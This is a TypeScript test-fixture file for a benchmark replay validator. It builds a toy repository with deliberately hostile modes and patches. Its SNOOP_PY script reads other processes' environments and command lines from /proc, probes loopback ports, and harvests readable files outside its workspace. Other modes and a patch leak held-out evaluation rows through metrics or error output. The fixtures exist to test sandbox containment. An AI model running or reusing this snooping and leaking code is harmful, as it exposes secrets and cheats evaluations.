import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { MetricDirection, RankingMode, ReplaySpecDto } from '@rcs/contracts';
import type { ValidatorJobToReplay } from '../src/replay/replay-pipeline';

/**
 * A tiny benchmark repository: bench.py computes `loss` from data.txt and model.py's SCALE and writes
 * result.json. Plain env switches (validator-private values passed through) make it misbehave:
 * BENCH_MODE=exit-3 exits 3, BENCH_MODE=sleep-forever outlives any budget, BENCH_MODE=print-only only prints the metric,
 * BENCH_MODE=leak-heldout writes every held-out row as a metric name (a miner trying to publish hidden data),
 * BENCH_MODE=snoop looks for what it was not given (see SNOOP_PY) and publishes whatever it found.
 * Its `per_item` is the loss per data row (DECISIONS §17). It records its environment in env.json, and reads HELDOUT_PATH and ARTIFACT_PATH when given.
 */
export const BENCH_PY = `import json, os, sys, time
from model import SCALE

data = [float(x) for x in open("data.txt").read().split()]
loss = abs(SCALE - 2.0) * sum(data) / len(data)
mode = os.environ.get("BENCH_MODE", "")
json.dump(dict(os.environ), open("env.json", "w"))
metrics = {"loss": loss, "rows": len(data), "per_item": [abs(SCALE - 2.0) * x for x in data]}
if os.environ.get("HELDOUT_PATH"):
    rows = open(os.environ["HELDOUT_PATH"]).read().splitlines()
    metrics["heldout_rows"] = len(rows)
    if mode == "leak-heldout":
        metrics.update({row: 1 for row in rows})
        metrics["metrics"] = {"leak:" + row: 1 for row in rows}
if os.environ.get("ARTIFACT_PATH"):
    metrics["artifact_bytes"] = os.path.getsize(os.environ["ARTIFACT_PATH"])
if mode == "snoop":
    import snoop
    metrics.update(snoop.run())
print("step 1 loss=99")
print("loss=%s" % loss)
if mode == "exit-3":
    print("benchmark failed on purpose", file=sys.stderr)
    sys.exit(3)
if mode == "sleep-forever":
    time.sleep(600)
if mode != "print-only":
    json.dump(metrics, open("result.json", "w"))
`;

/**
 * A hostile benchmark (BENCH_MODE=snoop) looking for the held-out source it was not given: every variable of
 * its environment; the environment and command line of every process it can see in /proc (pid 1 included); a
 * TCP connection and an HTTP request to each loopback listener it can find, and to the port SNOOP_PORT names
 * (the host's held-out server, as a benchmark that guessed it would try); every file it can read outside its
 * own workspace and the system directories (other jobs, the runner's work directory and its parents, /tmp);
 * and the listing of each directory above its workspace. It writes all of it to snoop.json, prints the paths
 * it read, and publishes each as a metric name `found:<path>` in result.json.
 */
export const SNOOP_PY = `import json, os, socket

SYSTEM = {"/usr", "/proc", "/sys", "/dev", "/etc", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32"}


def read(path, limit=1 << 16):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).decode("utf-8", "replace")
    except OSError:
        return None


def processes():
    seen = {}
    for pid in sorted(name for name in os.listdir("/proc") if name.isdigit()):
        seen[pid] = {"environ": read("/proc/%s/environ" % pid), "cmdline": read("/proc/%s/cmdline" % pid)}
    return seen


def listeners():
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in (read(table) or "").splitlines()[1:]:
            fields = line.split()
            if len(fields) > 3 and fields[3] == "0A":
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return sorted(ports)


def request(port):
    try:
        connection = socket.create_connection(("127.0.0.1", port), timeout=2)
    except OSError as error:
        return "refused errno %d" % error.errno
    with connection:
        connection.sendall(b"GET /heldout/rows.jsonl HTTP/1.0\\r\\n\\r\\n")
        return "answered " + connection.recv(65536).decode("utf-8", "replace")


def files_outside(workspace):
    """The first 4 KiB of each readable file, of the first 100 (a host's /tmp would hold many more)."""
    found = {}
    for top in sorted(os.listdir("/")):
        if "/" + top in SYSTEM:
            continue
        for directory, subdirectories, names in os.walk("/" + top):
            subdirectories.sort()
            if directory == workspace or directory.startswith(workspace + "/"):
                subdirectories[:] = []
                continue
            for name in sorted(names):
                text = read(os.path.join(directory, name), 4096)
                if text is not None and len(found) < 100:
                    found[os.path.join(directory, name)] = text
    return found


def listings(workspace):
    seen = {}
    directory = workspace
    while directory != "/":
        directory = os.path.dirname(directory)
        try:
            seen[directory] = sorted(os.listdir(directory))
        except OSError as error:
            seen[directory] = "errno %d" % error.errno
    return seen


def run():
    workspace = os.getcwd()
    ports = listeners()
    if os.environ.get("SNOOP_PORT"):
        ports.append(int(os.environ["SNOOP_PORT"]))
    findings = {
        "environ": dict(os.environ),
        "processes": processes(),
        "network": {str(port): request(port) for port in ports},
        "files": files_outside(workspace),
        "listings": listings(workspace),
    }
    json.dump(findings, open("snoop.json", "w"), indent=1)
    print("read outside the workspace: %s" % " ".join(sorted(findings["files"])))
    return {"found:" + path: 1 for path in findings["files"]}
`;

export const MODEL_PY = 'SCALE = 1.0\n';

/** A patch (as `git diff` writes it) setting SCALE; loss becomes |scale - 2| * 2.5 (1.5 → 1.25, 1.75 → 0.625, 1.25 → 1.875). */
export function scalePatch(scale: string): string {
  return `diff --git a/model.py b/model.py\nindex 0000000..1111111 100644\n--- a/model.py\n+++ b/model.py\n@@ -1 +1 @@\n-SCALE = 1.0\n+SCALE = ${scale}\n`;
}

/**
 * A hostile patch within the allowed surface: model.py, imported by bench.py, reads the held-out rows at HELDOUT_PATH,
 * writes them into result.json's `error` (the public-reason channel) and exits 2 (issue 34's second finding).
 */
export const HELDOUT_READING_PATCH = [
  'diff --git a/model.py b/model.py',
  'index 0000000..1111111 100644',
  '--- a/model.py',
  '+++ b/model.py',
  '@@ -1 +1,5 @@',
  '-SCALE = 1.0',
  '+import json, os, sys',
  '+rows = open(os.environ["HELDOUT_PATH"]).read().splitlines()',
  '+json.dump({"error": "rows " + " ".join(rows) + " at " + os.environ["HELDOUT_PATH"]}, open("result.json", "w"))',
  '+sys.exit(2)',
  '+SCALE = 1.0',
  '',
].join('\n');

/** A patch that edits bench.py, outside an allowed surface of model.py only. */
export const BENCH_PATCH = 'diff --git a/bench.py b/bench.py\n--- a/bench.py\n+++ b/bench.py\n@@ -1 +1 @@\n-import json, os, sys, time\n+import json, os, sys, time  # edited\n';

/** Creates the repository in `dir` with one commit; answers the commit id. */
export function createBenchRepo(dir: string): string {
  mkdirSync(dir, { recursive: true });
  const git = (...args: string[]) =>
    execFileSync('git', ['-c', 'user.name=bench', '-c', 'user.email=bench@rcs.invalid', '-c', 'commit.gpgsign=false', ...args], { cwd: dir, encoding: 'utf8' }).trim();
  git('init', '-q', '-b', 'main');
  writeFileSync(join(dir, 'bench.py'), BENCH_PY);
  writeFileSync(join(dir, 'model.py'), MODEL_PY);
  writeFileSync(join(dir, 'snoop.py'), SNOOP_PY);
  writeFileSync(join(dir, 'data.txt'), '1 2 3 4\n');
  git('add', '.');
  git('commit', '-q', '-m', 'baseline');
  return git('rev-parse', 'HEAD');
}

/** The replay spec of a scalar `loss` benchmark of `model.py` in a local repository at `commit`; `fields` override. */
export function localReplaySpec(repository: string, commit: string, fields: Partial<ReplaySpecDto> = {}): ReplaySpecDto {
  return {
    repository: `file://${repository}`,
    base_ref: 'main',
    base_commit_sha: commit,
    setup_command: null,
    benchmark_command: 'python3 bench.py',
    result_path: 'result.json',
    allowed_patch_paths: ['model.py'],
    metric_name: 'loss',
    metric_direction: MetricDirection.Minimize,
    ranking_mode: RankingMode.Scalar,
    secondary_metric_name: null,
    secondary_metric_direction: null,
    validator_benchmark_env: {},
    time_budget_seconds: 60,
    max_patch_bytes: 10_000,
    patch: '',
    artifact_uri: null,
    artifact_sha256: null,
    artifact_size_bytes: null,
    ...fields,
  };
}

/** A leased validator job of its own that replays `spec`. */
export function jobToReplay(spec: ReplaySpecDto): ValidatorJobToReplay {
  return { job_id: randomUUID(), submission_id: randomUUID(), replay_spec: spec };
}
